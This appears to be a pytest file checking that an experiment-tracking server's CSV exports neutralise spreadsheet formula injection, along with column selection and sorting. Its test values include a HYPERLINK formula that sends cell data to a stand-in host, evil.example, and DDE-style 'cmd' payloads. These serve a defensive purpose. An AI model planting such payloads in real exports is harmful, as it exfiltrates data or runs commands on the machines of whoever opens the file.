"""CSV exports never hand a spreadsheet a formula: user text starting with = + - @ tab or CR
gets a leading ', numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest

from server.exports import TABLE_COLUMNS
from tests.server.helpers import ApiClient, create_external
from tests.server.run_table_data import RunsTable
from trainer.spreadsheet import spreadsheet_safe

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, f"'{ATTACK}"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("baseline", "baseline"),
        ("a=b", "a=b"),
        ("", ""),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        (-0.5, -0.5),
        (-3, -3),
        (None, None),
        (True, True),
    ],
)
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_runs_csv_neutralises_names_tags_and_params(client: ApiClient) -> None:
    create_external(
        client,
        name=ATTACK,
        tags=["-1+cmd", "plain"],
        params={"note": "@SUM(A1)", "negative": -3, "text_number": "-0.5", "nested": {"a": 1}},
    )
    response = client.get("/api/v1/runs.csv")
    assert response.status_code == 200, response.text
    (row,) = _rows(response.text)
    assert row["name"] == f"'{ATTACK}"
    assert row["tags"] == "'-1+cmd;plain"
    assert row["params.note"] == "'@SUM(A1)"
    assert row["params.negative"] == "-3"
    assert row["params.text_number"] == "-0.5"
    assert row["params.nested"] == '{"a": 1}'
    assert row["status"] == "running"


def test_metrics_csv_neutralises_keys_and_keeps_negative_values(client: ApiClient) -> None:
    run = create_external(client)
    points = [
        {"key": "=1+1", "step": 1, "value": -1.5, "epoch": 1},
        {"key": "train/loss", "step": 1, "value": -0.25, "epoch": 1},
    ]
    posted = client.post(f"/api/v1/runs/{run['id']}/metrics", json={"points": points})
    assert posted.status_code < 300, posted.text
    response = client.get(f"/api/v1/runs/{run['id']}/metrics.csv")
    assert response.status_code == 200, response.text
    header = response.text.splitlines()[0]
    assert header == "step,epoch,'=1+1,train/loss"
    (row,) = _rows(response.text)
    assert row["'=1+1"] == "-1.5" and row["train/loss"] == "-0.25"


def test_runs_table_csv_holds_exactly_the_chosen_columns(table: RunsTable) -> None:
    """The page's export (`columns=`) holds the table's own columns, the chosen ones in their
    order (config, metric and tag columns) and the tags, on PostgreSQL and SQLite."""
    client, ids = table
    columns = "metrics.val/iou.best,config.learning_rate,tag.lr"
    response = client.get(f"/api/v1/runs.csv?columns={quote(columns)}&sort=name")
    assert response.status_code == 200, response.text
    header = response.text.splitlines()[0].split(",")
    assert header == [
        *TABLE_COLUMNS,
        "metrics.val/iou.best",
        "config.learning_rate",
        "tag.lr",
        "tags",
    ]
    rows = {row["name"]: row for row in _rows(response.text)}
    assert [row["name"] for row in _rows(response.text)] == sorted(rows)
    alpha = rows["alpha"]
    assert alpha["id"] == str(ids["alpha"])
    assert alpha["metrics.val/iou.best"] == "0.8"
    assert alpha["config.learning_rate"] == "0.001"
    assert alpha["tag.lr"] == "1e-3"
    assert alpha["tags"] == "baseline;lr=1e-3"
    assert rows["script"]["config.learning_rate"] == ""
    assert not any(column.startswith(("config.model", "params.", "metric.")) for column in header)


def test_runs_table_csv_without_chosen_columns_and_sorted_by_one(table: RunsTable) -> None:
    client, _ = table
    response = client.get(f"/api/v1/runs.csv?columns=&sort={quote('-metrics.val/iou.best')}")
    assert response.status_code == 200, response.text
    assert response.text.splitlines()[0] == ",".join((*TABLE_COLUMNS, "tags"))
    names = [row["name"] for row in _rows(response.text)]
    assert names[:3] == ["o'brien", "delta", "alpha"]


def test_runs_table_csv_cells_are_spreadsheet_safe(client: ApiClient) -> None:
    create_external(client, name=ATTACK, tags=["note=@SUM(A1)"], params={"x": "=1+1"})
    response = client.get(f"/api/v1/runs.csv?columns={quote('params.x,tag.note')}")
    assert response.status_code == 200, response.text
    (row,) = _rows(response.text)
    assert row["name"] == f"'{ATTACK}"
    assert row["params.x"] == "'=1+1"
    assert row["tag.note"] == "'@SUM(A1)"


def test_runs_table_csv_refuses_unknown_columns(client: ApiClient) -> None:
    create_external(client)
    response = client.get("/api/v1/runs.csv?columns=config.nope")
    assert response.status_code == 422, response.text
    assert response.json()["error"]["details"][0]["field"] == "columns"
